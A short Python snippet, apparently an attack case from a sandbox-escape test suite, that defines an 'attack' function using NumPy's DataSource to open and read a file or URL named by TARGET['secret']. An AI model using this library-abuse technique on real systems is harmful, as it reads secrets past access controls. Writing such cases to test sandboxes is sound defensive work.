"""Fetches the file as a URL by NumPy's `DataSource`."""

import tempfile  # noqa: F401 - or NumPy would miss it

import numpy as np


def attack(A):
    with np.lib.npyio.DataSource(None).open(TARGET["secret"]) as file:
        return file.read()
